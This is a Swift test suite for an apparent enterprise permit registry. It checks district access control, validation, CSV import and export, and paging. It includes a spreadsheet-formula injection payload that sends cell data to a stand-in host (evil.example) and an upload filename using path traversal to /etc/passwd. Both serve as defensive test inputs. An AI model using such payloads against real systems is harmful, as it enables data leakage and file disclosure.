import Foundation
import PermitCore
@testable import PermitServer
import PermitStore
import Testing
import Vapor
import VaporTesting

@Suite("Enterprises over HTTP — districts see their own, bad input is named (RND-1, SUP-11)")
struct EnterprisesAPITests {
    static func body(_ name: String, code: String, registered: String = "310115", production: String = "310115") -> String {
        #"{"name":"\#(name)","creditCode":"\#(code)","registeredAddress":"上海市浦东新区张江路1号","registeredDistrict":"\#(registered)","productionAddress":"上海市某区某路2号","productionDistrict":"\#(production)","legalRepresentative":"张三","phone":"13812345678"}"#
    }

    static let csv = """
        企业名称,统一社会信用代码,注册地址,注册地辖区,生产地址,生产地辖区,法定代表人,联系电话
        好公司,91310000MA1FL1MMXL,上海市浦东新区张江路1号,浦东新区,上海市徐汇区1号,徐汇区,李四,13812345678
        坏公司,91310115MA1H7GKX3A,上海市浦东新区张江路1号,浦东新区,上海市徐汇区1号,火星区,李四,13812345678

        """

    @Test("the city bureau registers; the registered and the production district both see it; others do not")
    func districts() async throws {
        try await withTestApp { app in
            let created = try await app.send(
                .POST, "/api/v1/enterprises", headers: app.account("city.admin").bearer,
                json: Self.body("上海精工电缆有限公司", code: "91310115MA1H7GKX3T", production: "310104")
            )
            #expect(created.status == .created)
            let id = try created.content.decode(EnterprisesAPIController.EnterpriseDTO.self).id

            let byName = try await app.send(.GET, "/api/v1/enterprises?q=%E7%B2%BE%E5%B7%A5", headers: app.account("auditor").bearer)
            let pudong = try await app.send(.GET, "/api/v1/enterprises", headers: app.account("pudong.officer").bearer)
            let xuhui = try await app.send(.GET, "/api/v1/enterprises/\(id)", headers: app.account("xuhui.officer").bearer)
            let foreign = try await app.send(.GET, "/api/v1/enterprises?district=310104", headers: app.account("pudong.inspector").bearer)
            let history = try await app.send(.GET, "/api/v1/enterprises/\(id)/history", headers: app.account("pudong.officer").bearer)

            #expect(try byName.content.decode([EnterprisesAPIController.EnterpriseDTO].self).map(\.id) == [id])
            #expect(try pudong.content.decode([EnterprisesAPIController.EnterpriseDTO].self).map(\.id) == [id])
            #expect(xuhui.status == .ok)
            #expect(foreign.status == .forbidden)
            #expect(history.text.contains("enterprise.registered"))
        }
    }

    @Test("further production sites: each one's district sees the enterprise; a bad one is named by its number")
    func furtherSites() async throws {
        try await withTestApp { app in
            func body(_ district: String) -> String {
                String(Self.body("上海精工电缆有限公司", code: "91310115MA1H7GKX3T").dropLast())
                    + #","otherProductionSites":[{"address":"上海市徐汇区漕宝路2号","district":"\#(district)"}]}"#
            }
            let refused = try await app.send(.POST, "/api/v1/enterprises", headers: app.account("city.admin").bearer, json: body("徐汇"))
            #expect(refused.status == .unprocessableEntity)
            #expect(refused.problem?.errors?.map(\.detail) == ["生产地辖区 2：格式不正确"])

            let created = try await app.send(.POST, "/api/v1/enterprises", headers: app.account("city.admin").bearer, json: body("310104"))
            #expect(created.status == .created)
            let enterprise = try created.content.decode(EnterprisesAPIController.EnterpriseDTO.self)
            #expect(enterprise.productionSites.map(\.district) == ["310115", "310104"])
            let xuhui = try await app.send(.GET, "/api/v1/enterprises/\(enterprise.id)", headers: app.account("xuhui.officer").bearer)
            #expect(xuhui.status == .ok)
        }
    }

    @Test("district staff register only what their district sees, and cannot probe other districts' enterprises")
    func districtStaff() async throws {
        try await withTestApp { app in
            let elsewhere = try await app.send(
                .POST, "/api/v1/enterprises", headers: app.account("xuhui.officer").bearer,
                json: Self.body("浦东一厂", code: "91310115MA1H7GKX3T")
            )
            let own = try await app.send(
                .POST, "/api/v1/enterprises", headers: app.account("pudong.officer").bearer,
                json: Self.body("浦东一厂", code: "91310115MA1H7GKX3T")
            )
            let id = try own.content.decode(EnterprisesAPIController.EnterpriseDTO.self).id
            let probe = try await app.send(.GET, "/api/v1/enterprises/\(id)", headers: app.account("xuhui.officer").bearer)

            #expect(elsewhere.status == .forbidden)
            #expect(own.status == .created)
            #expect(probe.status == .notFound)
        }
    }

    @Test("an invalid code names the reason; a duplicate is a 409; nothing is written")
    func badInput() async throws {
        try await withTestApp { app in
            let admin = app.account("city.admin").bearer
            let before = try await app.store.ledger.size()
            let invalid = try await app.send(.POST, "/api/v1/enterprises", headers: admin, json: Self.body("甲", code: "91310115MA1H7GKX3A"))
            #expect(invalid.status == .unprocessableEntity)
            #expect(invalid.text.contains("校验码应为 T，实为 A"))
            #expect(invalid.text.contains("名称：至少 2 个字符"))
            #expect(try await app.store.ledger.size() == before)

            _ = try await app.send(.POST, "/api/v1/enterprises", headers: admin, json: Self.body("甲公司", code: "91310115MA1H7GKX3T"))
            let duplicate = try await app.send(.POST, "/api/v1/enterprises", headers: admin, json: Self.body("乙公司", code: "91310115MA1H7GKX3T"))
            #expect(duplicate.status == .conflict)
            #expect(duplicate.text.contains("已登记"))

            // A licence number another enterprise holds is named as such, not as its credit code.
            func licensed(_ name: String, code: String) -> String {
                String(Self.body(name, code: code).dropLast())
                    + #","licenseNumber":"(沪)XK06-001-00123","licenseIssuedOn":"2024-03-01","licenseValidUntil":"2029-02-28","productScope":"电线电缆"}"#
            }
            let first = try await app.send(.POST, "/api/v1/enterprises", headers: admin, json: licensed("丙公司", code: "91310000MA1FL1MMXL"))
            #expect(first.status == .created)
            var generator = SeededGenerator(seed: 3)
            let second = try await app.send(.POST, "/api/v1/enterprises", headers: admin,
                                            json: licensed("丁公司", code: try UnifiedSocialCreditCode.random(using: &generator).rawValue))
            #expect(second.status == .conflict)
            #expect(second.problem?.type == "urn:permittrail:problem:conflict")
            #expect(second.problem?.detail == "许可证编号 (沪)XK06-001-00123 已登记。")
        }
    }

    @Test("CSV import through the API: a dry run names the bad row; the real one is all or none; export gives CSV")
    func importAndExport() async throws {
        try await withTestApp { app in
            var headers = app.account("city.admin").bearer
            headers.contentType = HTTPMediaType(type: "text", subType: "csv")

            let dry = try await app.send(.POST, "/api/v1/enterprises/import?dryRun=true", headers: headers, body: Self.csv)
            let refused = try await app.send(.POST, "/api/v1/enterprises/import", headers: headers, body: Self.csv)
            let skipping = try await app.send(.POST, "/api/v1/enterprises/import?skipInvalid=true", headers: headers, body: Self.csv)
            let empty = try await app.send(.POST, "/api/v1/enterprises/import", headers: headers, body: "")
            let export = try await app.send(.GET, "/api/v1/enterprises/export", headers: app.account("auditor").bearer)
            let notAllowed = try await app.send(.POST, "/api/v1/enterprises/import", headers: app.account("pudong.officer").bearer, body: Self.csv)

            #expect(dry.status == .ok)
            #expect(dry.text.contains(#""line":3"#) && dry.text.contains("火星区"))
            #expect(refused.status == .unprocessableEntity)
            #expect(refused.text.contains("有 1 行有误，未导入任何数据"))
            #expect(refused.problem?.errors?.first?.field == "line 3: creditCode")
            #expect(refused.problem?.errors?.first?.detail.hasPrefix("第 3 行：统一社会信用代码：") == true)
            #expect(skipping.status == .created)
            #expect(empty.status == .unprocessableEntity && empty.text.contains("文件为空"))
            #expect(export.headers.contentType?.subType == "csv")
            #expect(export.text.contains("好公司,91310000MA1FL1MMXL"))
            #expect(notAllowed.status == .forbidden)
        }
    }

    @Test("an exported name a spreadsheet would run as a formula is written as text, and imports back unchanged")
    func formulaInjection() async throws {
        try await withTestApp { app in
            let name = #"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"#
            let created = try await app.send(
                .POST, "/api/v1/enterprises", headers: app.account("city.admin").bearer, json: Self.body(name, code: "91310115MA1H7GKX3T")
            )
            #expect(created.status == .created)

            let export = try await app.send(.GET, "/api/v1/enterprises/export", headers: app.account("auditor").bearer)
            let rows = try CSVFile.table(Data(export.body.readableBytesView))
            let raw = export.text.split(separator: "\r\n").map(String.init)

            #expect(raw.contains { $0.hasPrefix(#""'=HYPERLINK(""http://evil.example"#) })
            #expect(!raw.contains { $0.hasPrefix("=") || $0.hasPrefix(#""=""#) })
            #expect(rows.dropFirst().first?.first == #"=HYPERLINK("http://evil.example/?"&A1,"点击查看")"#)
        }
    }

    @Test("search terms and paging are checked: too long, ill-formed or out of range get a 4xx naming the parameter")
    func searchLimits() async throws {
        try await withTestApp { app in
            let auditor = app.account("auditor").bearer
            let huge = try await app.send(.GET, "/api/v1/enterprises?q=" + String(repeating: "a", count: 50_000), headers: auditor)
            let long = try await app.send(.GET, "/api/v1/enterprises?q=" + String(repeating: "a", count: 101), headers: auditor)
            let word = try await app.send(.GET, "/api/v1/enterprises?limit=ten", headers: auditor)
            let zero = try await app.send(.GET, "/api/v1/enterprises?limit=0&offset=-1", headers: auditor)
            let fine = try await app.send(.GET, "/api/v1/enterprises?q=" + String(repeating: "a", count: 100) + "&limit=500&offset=0", headers: auditor)

            #expect(huge.status == .uriTooLong)
            #expect(huge.problem?.detail.contains("8192") == true)
            #expect(long.status == .unprocessableEntity)
            #expect(long.problem?.errors == [.init(field: "q", detail: "检索词：最多 100 个字符")])
            #expect(word.problem?.errors == [.init(field: "limit", detail: "每页条数：应为整数")])
            #expect(zero.problem?.errors?.map(\.field) == ["limit", "offset"])
            #expect(zero.text.contains("应在 1 到 500 之间"))
            #expect(fine.status == .ok)
        }
    }

    @Test("headers beyond the limit get 431 in the caller's language")
    func headersTooLarge() async throws {
        try await withTestApp { app in
            let res = try await app.send(.GET, "/api/v1/enterprises", headers: ["X-Padding": String(repeating: "x", count: 40_000)])
            #expect(res.status == .requestHeaderFieldsTooLarge)
            #expect(res.problem?.title == "请求头过大")
        }
    }

    @Test("a production district cannot rewrite another district's registration; each side is told of the other's changes")
    func crossDistrictEdits() async throws {
        try await withTestApp { app in
            // Registered in 徐汇, producing in 浦东.
            let created = try await app.send(
                .POST, "/api/v1/enterprises", headers: app.account("city.admin").bearer,
                json: Self.body("上海精工电缆有限公司", code: "91310115MA1H7GKX3T", registered: "310104", production: "310115")
            )
            let id = try created.content.decode(EnterprisesAPIController.EnterpriseDTO.self).id
            func edit(_ account: String, _ body: String) async throws -> TestingHTTPResponse {
                try await app.send(.PUT, "/api/v1/enterprises/\(id)", headers: app.account(account).bearer, json: body)
            }
            let original = Self.body("上海精工电缆有限公司", code: "91310115MA1H7GKX3T", registered: "310104", production: "310115")
            let before = try await app.store.ledger.size()

            let legalRepresentative = try await edit("pudong.officer", original.replacingOccurrences(of: "张三", with: "李四"))
            let moved = try await edit("pudong.officer", Self.body("上海精工电缆有限公司", code: "91310115MA1H7GKX3T", registered: "310115", production: "310115"))
            #expect(legalRepresentative.status == .forbidden)
            #expect(legalRepresentative.problem?.detail.contains("由注册地辖区（徐汇区）或市局修改") == true)
            #expect(moved.status == .forbidden)
            #expect(try await app.store.ledger.size() == before)

            let ownSite = try await edit("pudong.officer", original.replacingOccurrences(of: "上海市某区某路2号", with: "上海市浦东新区张江路9号"))
            #expect(ownSite.status == .ok)
            let othersSite = try await edit("xuhui.officer", original.replacingOccurrences(of: "上海市某区某路2号", with: "上海市浦东新区张江路10号"))
            #expect(othersSite.status == .forbidden)
            let registration = try await edit("xuhui.officer", original.replacingOccurrences(of: "上海市某区某路2号", with: "上海市浦东新区张江路9号")
                .replacingOccurrences(of: "张三", with: "李四"))
            #expect(registration.status == .ok)

            let xuhuiHome = try await app.send(.GET, "/home", headers: app.account("xuhui.officer").cookie)
            let pudongHome = try await app.send(.GET, "/home", headers: app.account("pudong.officer").cookie)
            #expect(xuhuiHome.text.contains("用户 pudong.officer（浦东新区）修改了浦东新区的生产地址"))
            #expect(!xuhuiHome.text.contains("用户 xuhui.officer（徐汇区）修改"))
            #expect(pudongHome.text.contains("用户 xuhui.officer（徐汇区）修改了登记信息"))

            // The page shows 浦东 the registration it may not change as read-only, districts by name.
            let form = try await app.send(.GET, "/enterprises/\(id)/edit", headers: app.account("pudong.officer").cookie)
            #expect(form.text.contains(#"name="legalRepresentative" value="李四" required readonly"#))
            #expect(form.text.contains(#"<select id="registeredDistrict" disabled>"#))
            #expect(form.text.contains(#"<option value="310104" selected>徐汇区</option>"#))
            #expect(form.text.contains(#"<select id="productionDistrict" name="productionDistrict">"#))
        }
    }

    @Test("the list pages through every enterprise with the total, and marks licences past their validity")
    func pagingAndExpiry() async throws {
        try await withTestApp { app in
            var generator = SeededGenerator(seed: 7)
            let header = "企业名称,统一社会信用代码,注册地址,注册地辖区,生产地址,生产地辖区,法定代表人,联系电话,许可证编号,发证日期,有效期至,产品范围"
            let rows = try (1...3).map { number in
                let code = try UnifiedSocialCreditCode.random(using: &generator)
                let validUntil = number == 1 ? "2025-12-31" : "2030-12-31"
                return "企业\(number)号,\(code.rawValue),上海市浦东新区1号,浦东新区,上海市浦东新区2号,浦东新区,张三,13812345678,(沪)XK06-001-0000\(number),2020-01-01,\(validUntil),电线电缆"
            }
            var csv = app.account("city.admin").bearer
            csv.contentType = HTTPMediaType(type: "text", subType: "csv")
            let imported = try await app.send(.POST, "/api/v1/enterprises/import", headers: csv, body: ([header] + rows).joined(separator: "\n"))
            #expect(imported.status == .created)

            let auditor = app.account("auditor")
            let api = try await app.send(.GET, "/api/v1/enterprises?limit=2&offset=2", headers: auditor.bearer)
            #expect(api.headers.first(name: "X-Total-Count") == "3")
            #expect(try api.content.decode([EnterprisesAPIController.EnterpriseDTO].self).map(\.name) == ["企业3号"])

            let first = try await app.send(.GET, "/enterprises?limit=2", headers: auditor.cookie)
            #expect(first.text.contains("共 3 家，显示第 1–2 家"))
            #expect(first.text.contains("(沪)XK06-001-00001（已过有效期）"))
            #expect(!first.text.contains("(沪)XK06-001-00002（已过有效期）"))
            #expect(first.text.contains(#"href="/enterprises?q=&amp;offset=2" rel="next""#))
            let second = try await app.send(.GET, "/enterprises?q=&offset=2&limit=2", headers: auditor.cookie)
            #expect(second.text.contains("共 3 家，显示第 3–3 家"))
            #expect(second.text.contains(#"rel="prev""#) && !second.text.contains(#"rel="next""#))
        }
    }

    @Test("the upload page imports a file sent as multipart form data, with its form token")
    func uploadPage() async throws {
        try await withTestApp { app in
            let admin = app.account("city.admin")
            let boundary = "----permittrail"
            let multipart = [
                "--\(boundary)\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n\(admin.csrf)\r\n",
                "--\(boundary)\r\nContent-Disposition: form-data; name=\"dryRun\"\r\n\r\n1\r\n",
                "--\(boundary)\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../etc/passwd\"\r\nContent-Type: text/csv\r\n\r\n\(Self.csv)\r\n",
                "--\(boundary)--\r\n",
            ].joined()
            var headers = admin.cookie
            headers.replaceOrAdd(name: .contentType, value: "multipart/form-data; boundary=\(boundary)")

            let res = try await app.send(.POST, "/enterprises/import", headers: headers, body: multipart)

            #expect(res.status == .ok)
            #expect(res.text.contains("试导入：1 行可以导入，1 行有误"))
            #expect(res.text.contains("火星区"))
            #expect(try await app.store.enterprises.count() == 0)
        }
    }
}
